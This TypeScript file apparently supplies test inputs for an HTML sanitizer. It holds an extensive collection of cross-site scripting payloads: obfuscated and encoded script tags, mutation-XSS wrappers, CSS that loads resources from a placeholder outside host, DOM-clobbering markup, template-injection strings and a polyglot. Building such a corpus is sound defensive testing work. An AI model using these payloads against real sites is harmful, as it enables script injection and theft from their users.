import { crossed, ELSEWHERE, RUNS, SCRIPT_ADDRESS } from './payload.ts';

const IMG = `<img src=x onerror=${RUNS}>`;

/** Scripts in every form that a browser runs or once ran. */
const SCRIPTS = [
  ...[`<script>${RUNS}</script>`, `<SCRIPT >${RUNS}</SCRIPT\n>`, `<script/x>${RUNS}</script/x>`, `<script>${RUNS}`],
  ...[`<script src=//${ELSEWHERE}/a.js></script>`, `<script type=module>globalThis.${RUNS}</script>`],
  ...[`<scr<script>ipt>${RUNS}</scr</script>ipt>`, `<script<b>>${RUNS}</script>`, `<sc\u0000ript>${RUNS}</script>`],
  ...[`<script>/*</script>*/${RUNS}</script>`, `<script><!--\n${RUNS}//--></script>`, `<svg><script>${RUNS}</script>`],
  ...[`<svg><script href="data:,${RUNS}"/>`, `<svg><script>&#104;ostileRan&equals;1</script></svg>`],
  ...[
    `<math><script>${RUNS}</script></math>`,
    `&lt;script&gt;${RUNS}//&lt;/script&gt;`,
    `＜script＞${RUNS}＜/script＞`,
  ],
  ...[`\u003cscript\u003e${RUNS}</script `, `+ADw-script+AD4-${RUNS}+ADw-/script+AD4-`, `<script>0</script>${IMG}`],
  ...[`<?xml version="1.0"?><script>${RUNS}</script>`, `<![CDATA[><script>${RUNS}</script>]]>`, `<!doctype>${IMG}`],
];

/** Markup that changes its meaning once it was read, written out and read again, around something that runs. */
const MUTATIONS: ReadonlyArray<(inner: string) => string> = [
  inner => `<noscript><p title="</noscript>${inner}">`,
  inner => `<style><p title="</style>${inner}">`,
  inner => `<title><p title="</title>${inner}">`,
  inner => `<textarea><p title="</textarea>${inner}">`,
  inner => `<xmp><p title="</xmp>${inner}">`,
  inner => `<noembed><p title="</noembed>${inner}">`,
  inner => `<noframes><p title="</noframes>${inner}">`,
  inner => `<iframe><p title="</iframe>${inner}">`,
  inner => `<plaintext><p title="</plaintext>${inner}">`,
  inner => `<select><option><style></select>${inner}</style>`,
  inner => `<template><script></template>${inner}`,
  inner => `<template>${inner}</template>`,
  inner => `<template shadowrootmode=open>${inner}</template>`,
  inner => `<svg></p><style><a id="</style>${inner}">`,
  inner => `<svg><desc><style><!--</style>${inner}-->`,
  inner => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  inner => `<svg><title><style><b title="</style>${inner}">`,
  inner => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner}">`,
  inner => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  inner => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  inner => `<math><mi><mglyph><svg><mtext><style><path id="</style>${inner}">`,
  inner => `<!--><p>-->${inner}<!--`,
  inner => `<!--a--!>${inner}-->`,
  inner => `<!-${inner}->`,
  inner => `<?a ${inner}?>`,
  inner => `</ ${inner}>`,
  inner => `<![if IE]>${inner}<![endif]>`,
  inner => `<!--[if gte IE 4]>${inner}<![endif]-->`,
  inner => `<p title='a"><b title='>${inner}`,
  inner => `<a href="/a" title="&quot;&gt;${inner}">a</a>`,
  inner => `<a href='/"${inner}' title=\`${inner}>a</a>`,
  inner => `<p class="align-center${inner.replaceAll('"', '')}">a</p>`,
  inner => `<table><tr><td colspan='"${inner}'>a</td></tr></table>`,
  inner => `<table>${inner}<tr><td>${inner}</table>`,
  inner => `<a href="/"><table><a href="/">${inner}</table></a>`,
  inner => `<b><p></b>${inner}</p></b></b>`,
  inner => `${'<div>'.repeat(40)}${inner}`,
  inner => `<listing>&lt;img onerror="${RUNS}" src=x&gt;${inner}</listing>`,
  inner => `<keygen autofocus onfocus=${RUNS}>${inner}`,
  inner => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  inner => inner.replaceAll('<', '&amp;lt;'),
  inner => inner.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  inner => inner.replaceAll('<', '\\x3c'),
  inner => inner.replaceAll('<', '<\u0301'),
  inner => inner.replaceAll('=', '\u338f\u0338='),
];
const INNER = [
  ...[IMG, `<svg/onload=${RUNS}>`, `<script>${RUNS}</script>`, `<iframe srcdoc="<script>parent.${RUNS}</script>">`],
  ...[
    `<a href="${SCRIPT_ADDRESS}">a</a>`,
    `<details open ontoggle=${RUNS}>`,
    `<b onfocus="${RUNS}" tabindex=1 autofocus>`,
  ],
];

/** Styles that load, run or cover the page. */
const RULES = [
  ...[`background:url(//${ELSEWHERE}/a)`, `background:u\\72l("${SCRIPT_ADDRESS}")`, `width:expression(${RUNS})`],
  ...[`behavior:url(//${ELSEWHERE}/a.htc)`, `-moz-binding:url(//${ELSEWHERE}/a.xml#a)`, 'position:fixed;inset:0'],
  ...[`content:url(//${ELSEWHERE}/a)`, `list-style:url(//${ELSEWHERE}/a)`, `cursor:url(//${ELSEWHERE}/a),auto`],
];
const STYLES = [
  ...crossed(RULES, ['p', 'a href=/', 'li', 'td', 'h2'], (rule, tag) => `<${tag} style='${rule}'>a`),
  ...RULES.map(rule => `<style>*{${rule}}</style>`),
  ...[`<style>@import "//${ELSEWHERE}/a.css";</style>`, `<style>@font-face{src:url(//${ELSEWHERE}/f)}</style>`],
];

/** Elements that move, take over names of the page, or act on it. */
const ACTS = [
  ...[`<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`, `<svg><set onbegin=${RUNS} attributeName=x to=1>`],
  ...[`<svg><a><animate attributeName=href values=${SCRIPT_ADDRESS} /><text y=9>a</text></a></svg>`],
  ...[
    `<svg><use href="data:image/svg+xml,<svg id='a' onload='${RUNS}'/>#a"/></svg>`,
    `<svg><handler>${RUNS}</handler>`,
  ],
  ...['<form id=main><input name=attributes></form>', '<a id=main name=body href=/>a</a>', '<img name=getElementById>'],
  ...['<p id="__proto__">a</p>', '<p id="root" name="location" is="x-y" slot="a">a</p>', '<input name=__reactProps>'],
  ...[
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${RUNS} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUNS}//>`,
  ],
  ...[`'"><svg/onload=${RUNS}>`, `"-${RUNS}-"`, `\${${RUNS}}`, `{{constructor.constructor('${RUNS}')()}}`, `]]>${IMG}`],
  ...[
    `</script>${IMG}`,
    `</title>${IMG}`,
    `</main></body></html>${IMG}`,
    `\u2028${IMG}\u2029`,
    `&quot;${IMG}`,
    `%3Cscript%3E`,
  ],
];

/** Scripts, styles, and markup that is read otherwise than it looks. */
export const CONTEXTS: readonly string[] = [
  ...SCRIPTS,
  ...crossed(MUTATIONS, INNER, (write, inner) => write(inner)),
  ...STYLES,
  ...ACTS,
];
